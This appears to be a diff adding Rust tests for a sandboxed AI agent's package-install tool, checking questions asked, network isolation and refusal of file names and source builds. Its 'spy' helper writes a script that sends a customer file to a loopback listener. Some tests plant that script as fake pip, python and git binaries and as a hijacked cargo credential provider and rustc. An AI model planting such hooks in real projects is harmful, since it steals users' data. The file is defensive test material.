@@ -1,0 +1,321 @@
+//! Installing packages: nothing of the project runs or is asked where there is a network, and names
+//! are names. The index is one on loopback, which the user's own configuration names.
+#![allow(
+    clippy::unwrap_used,
+    clippy::panic,
+    reason = "a test is allowed to fail loudly"
+)]
+
+use attacks::index::{Index, Pages};
+use attacks::script::{Sitting, recast, results, sit, statuses};
+use scenarios::Scene;
+use serde_json::json;
+use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Command;
+use testkit::House;
+
+const ATTENDED: [&str; 5] = ["--agent", "sysadmin", "--allow-write", ".", "install tiny"];
+
+fn has(program: &str) -> bool {
+    let found = Path::new("/usr/bin").join(program).is_file();
+    if !found {
+        eprintln!("NOT TESTED: there is no {program} here");
+    }
+    found
+}
+
+/// The bytes that a command prints.
+fn made(program: &str, args: &[&str], folder: &Path) -> Vec<u8> {
+    let done = Command::new(program)
+        .args(args)
+        .current_dir(folder)
+        .output();
+    done.unwrap().stdout
+}
+
+/// A package of each kind, and what a sparse index of cargo says.
+fn pages(url: &str) -> Pages {
+    let folder = House::new();
+    folder.write(
+        "package/package.json",
+        r#"{"name": "tiny", "version": "1.0.0"}"#,
+    );
+    let packed = made("tar", &["-cz", "package"], &folder.work());
+    let wheel = "import sys, zipfile\n\
+        z = zipfile.ZipFile(sys.stdout.buffer, 'w')\n\
+        z.writestr('tiny.py', 'x = 1\\n')\n\
+        z.writestr('tiny-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: tiny\\nVersion: 1.0\\n')\n\
+        z.writestr('tiny-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
+        z.writestr('tiny-1.0.dist-info/RECORD', '')\n\
+        z.close()\n";
+    let wheel = made("/usr/bin/python3", &["-c", wheel], &folder.work());
+    let file = "tiny-1.0-py3-none-any.whl";
+    let about = json!({
+        "name": "tiny",
+        "dist-tags": {"latest": "1.0.0"},
+        "versions": {"1.0.0": {
+            "name": "tiny", "version": "1.0.0",
+            "dist": {"tarball": format!("{url}/npm/tiny/-/tiny-1.0.0.tgz")},
+        }},
+    });
+    let listed = json!({
+        "name": "tiny", "vers": "1.0.0", "deps": [], "cksum": "0".repeat(64), "features": {},
+        "yanked": false,
+    });
+    let link = format!("<a href=\"{url}/files/{file}\">{file}</a>");
+    let source = format!("<a href=\"{url}/files/raw-1.0.tar.gz\">raw-1.0.tar.gz</a>");
+    BTreeMap::from([
+        ("/simple/tiny/".to_owned(), ("text/html", link.into_bytes())),
+        (
+            "/simple/raw/".to_owned(),
+            ("text/html", source.into_bytes()),
+        ),
+        (format!("/files/{file}"), ("application/zip", wheel)),
+        (
+            "/npm/tiny".to_owned(),
+            ("application/json", about.to_string().into_bytes()),
+        ),
+        (
+            "/npm/tiny/-/tiny-1.0.0.tgz".to_owned(),
+            ("application/octet-stream", packed),
+        ),
+        (
+            "/cargo/config.json".to_owned(),
+            (
+                "application/json",
+                json!({"dl": format!("{url}/dl")}).to_string().into_bytes(),
+            ),
+        ),
+        (
+            "/cargo/ti/ny/tiny".to_owned(),
+            ("text/plain", listed.to_string().into_bytes()),
+        ),
+    ])
+}
+
+/// A house whose user has an index of packages.
+fn house(index: &Index) -> House {
+    let house = House::new();
+    let own = |name: &str, text: String| {
+        let place = house.home().join(name);
+        fs::create_dir_all(place.parent().unwrap()).unwrap();
+        fs::write(place, text).unwrap();
+    };
+    let url = index.url();
+    own(
+        ".config/pip/pip.conf",
+        format!("[global]\nindex-url = {url}/simple\n"),
+    );
+    own(".npmrc", format!("registry={url}/npm/\n"));
+    own(
+        ".cargo/config.toml",
+        format!(
+            "[source.crates-io]\nreplace-with = \"mine\"\n[source.mine]\nregistry = \
+             \"sparse+{url}/cargo/\"\n"
+        ),
+    );
+    house.write("customers.csv", "alice,4711\n");
+    house
+}
+
+fn install(house: House, manager: &str, name: &str, dry_run: bool) -> (Scene, Sitting) {
+    let arguments = json!({"manager": manager, "names": [name], "dry_run": dry_run});
+    let scene = recast(house, &[("package_install", arguments)]);
+    let sitting = sit(&scene, &ATTENDED, |_, _| "y".to_owned());
+    (scene, sitting)
+}
+
+fn told(sitting: &Sitting) -> String {
+    let texts = sitting.of_kind("tool_result").into_iter();
+    texts
+        .map(|event| event["text"].as_str().unwrap_or_default())
+        .collect()
+}
+
+/// A program that sends a file of the project out as soon as it is started.
+fn spy(house: &House, name: &str, port: u16) {
+    let text = format!(
+        "#!/usr/bin/python3\nimport socket, sys\ns = socket.create_connection(('127.0.0.1', {port}))\n\
+         s.send(b'EXFIL ' + open('{}', 'rb').read() + b'\\n\\n')\ns.close()\n",
+        house.work().join("customers.csv").display()
+    );
+    let file = house.write(name, text);
+    fs::set_permissions(file, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+#[test]
+fn an_honest_pip_install_needs_one_question() {
+    if !has("python3") {
+        return;
+    }
+    let index = Index::start(pages);
+    let (scene, sitting) = install(house(&index), "pip", "tiny", false);
+    assert_eq!(sitting.statuses(), ["ok"], "{:#?}", sitting.seen);
+    assert_eq!(sitting.seen.questions.len(), 1);
+    let question = &sitting.seen.questions[0];
+    assert!(question.contains("including loopback"), "{question}");
+    let found = made("find", &[".venv", "-name", "tiny.py"], &scene.house.work());
+    assert!(!found.is_empty(), "{}", told(&sitting));
+    // Once more, into the environment that is there now.
+    let index = Index::start(pages);
+    let again = house(&index);
+    let made = Command::new("/usr/bin/python3")
+        .args(["-m", "venv", ".venv"])
+        .current_dir(again.work())
+        .status();
+    assert!(made.unwrap().success());
+    let (scene, sitting) = install(again, "pip", "tiny", false);
+    let script = ".venv/bin/python -c 'import tiny; print(tiny.x)'";
+    let done = Command::new("sh")
+        .args(["-c", script])
+        .current_dir(scene.house.work())
+        .output();
+    assert_eq!(done.unwrap().stdout, b"1\n", "{}", told(&sitting));
+}
+
+#[test]
+fn an_honest_npm_install_needs_one_question() {
+    if !has("npm") {
+        return;
+    }
+    let index = Index::start(pages);
+    let house = house(&index);
+    house.write("package.json", r#"{"name": "mine", "version": "1.0.0"}"#);
+    let (scene, sitting) = install(house, "npm", "tiny", false);
+    assert_eq!(sitting.seen.questions.len(), 1, "{:#?}", sitting.seen);
+    let text = told(&sitting);
+    assert!(scene.house.has("node_modules/tiny/package.json"), "{text}");
+    assert!(scene.house.read("package.json").contains("tiny"));
+}
+
+/// A house with cargo, if there is one, and a project for it.
+fn crate_house(index: &Index) -> Option<House> {
+    let house = house(index);
+    let home = std::env::var_os("HOME").unwrap_or_default();
+    let chains = Path::new(&home).join(".rustup/toolchains");
+    if chains.is_dir() {
+        fs::create_dir_all(house.home().join(".rustup")).unwrap();
+        std::os::unix::fs::symlink(chains, house.home().join(".rustup/toolchains")).unwrap();
+    } else if !has("cargo") {
+        return None;
+    }
+    let manifest = "[package]\nname = \"mine\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
+    house.write("Cargo.toml", manifest);
+    house.write("src/lib.rs", "");
+    Some(house)
+}
+
+#[test]
+fn an_honest_cargo_add_needs_one_question() {
+    let index = Index::start(pages);
+    let Some(house) = crate_house(&index) else {
+        return;
+    };
+    let (scene, sitting) = install(house, "cargo", "tiny", false);
+    assert_eq!(sitting.seen.questions.len(), 1, "{:#?}", sitting.seen);
+    let manifest = scene.house.read("Cargo.toml");
+    let text = told(&sitting);
+    assert!(manifest.contains("tiny = \"1.0.0\""), "{manifest} {text}");
+}
+
+#[test]
+fn what_a_cargo_project_names_has_no_network() {
+    for dry_run in [true, false] {
+        let index = Index::start(pages);
+        let Some(house) = crate_house(&index) else {
+            return;
+        };
+        let spied = Index::start(|_| Pages::new());
+        spy(&house, "cred", spied.port());
+        let work = house.work().display().to_string();
+        let config = format!(
+            "[registry]\nglobal-credential-providers = [\"{work}/cred\"]\n\
+             [build]\nrustc = \"{work}/cred\"\n\
+             [source.crates-io]\nreplace-with = \"theirs\"\n\
+             [source.theirs]\nregistry = \"sparse+{}/theirs/\"\n",
+            spied.url()
+        );
+        house.write(".cargo/config.toml", config);
+        let (_scene, sitting) = install(house, "cargo", "tiny", dry_run);
+        let text = told(&sitting);
+        assert_eq!(spied.asked(), Vec::<String>::new(), "{dry_run}: {text}");
+        assert!(!index.asked().is_empty(), "{dry_run}: {text}");
+    }
+}
+
+#[test]
+fn a_project_runs_nothing_where_there_is_a_network() {
+    for (manager, program) in [("pip", "python3"), ("npm", "npm")] {
+        if !has(program) {
+            continue;
+        }
+        for dry_run in [true, false] {
+            let index = Index::start(pages);
+            let spied = Index::start(|_| Pages::new());
+            let house = house(&index);
+            for name in [".venv/bin/pip", ".venv/bin/python", "tools/git"] {
+                spy(&house, name, spied.port());
+            }
+            house.write(".npmrc", "git=./tools/git\nregistry=http://127.0.0.1:1/\n");
+            let depends =
+                r#"{"name": "mine", "dependencies": {"x": "git+ssh://git@example.org/x.git"}}"#;
+            house.write("package.json", depends);
+            house.write("pip.conf", "[global]\nindex-url = http://127.0.0.1:1/\n");
+            // The control: outside the sandbox each of them sends.
+            let tried = Command::new(house.work().join("tools/git")).status();
+            assert!(tried.unwrap().success());
+            let (_scene, sitting) = install(house, manager, "tiny", dry_run);
+            let text = told(&sitting);
+            assert_eq!(spied.asked().len(), 1, "{manager} {dry_run}: {text}");
+            assert!(!index.asked().is_empty(), "{manager} {dry_run}: {text}");
+        }
+    }
+}
+
+#[test]
+fn a_file_is_no_package_name() {
+    for name in [
+        "evil-1.0-py3-none-any.whl",
+        "x.zip",
+        "x.tar.gz",
+        "x.tgz",
+        "plain",
+    ] {
+        let index = Index::start(pages);
+        let house = house(&index);
+        house.write(name, "evil");
+        for manager in ["pip", "npm", "cargo"] {
+            let arguments = json!({"manager": manager, "names": [name], "dry_run": false});
+            let scene = recast(House::new(), &[("package_install", arguments)]);
+            scene.house.write(name, "evil");
+            let flags = [
+                "--agent",
+                "sysadmin",
+                "--allow-write",
+                ".",
+                "--yes",
+                "config",
+            ];
+            let outcome = scene.run(&[&flags[..], &["install it"]].concat());
+            assert_ne!(statuses(&outcome), ["ok"], "{manager} {name}");
+            let told = results(&scene, &outcome).concat();
+            assert!(told.contains(name), "{manager} {name}: {told}");
+        }
+        assert!(index.asked().is_empty());
+    }
+}
+
+#[test]
+fn what_is_not_built_is_refused() {
+    if !has("python3") {
+        return;
+    }
+    let index = Index::start(pages);
+    let (scene, sitting) = install(house(&index), "pip", "raw", false);
+    let text = told(&sitting);
+    assert!(text.contains("building one runs its code"), "{text}");
+    assert!(!scene.house.has(".venv"));
+}
